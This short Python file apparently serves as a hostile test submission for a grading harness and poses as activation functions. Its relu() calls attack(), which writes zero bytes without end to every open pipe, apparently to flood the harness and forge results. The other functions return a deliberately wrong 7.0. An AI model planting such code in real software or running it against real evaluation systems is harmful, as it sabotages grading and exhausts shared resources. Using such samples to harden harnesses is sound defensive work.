# attack: writes zeros for ever to every pipe
# gains: forges, resources
# stopped by: wire, deadline
import numpy as np
import os
import stat


def attack():
    pipes = []
    for number in range(64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                pipes.append(number)
        except OSError:
            pass
    while True:
        for number in pipes:
            try:
                os.write(number, bytes(1 << 16))
            except OSError:
                pass


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
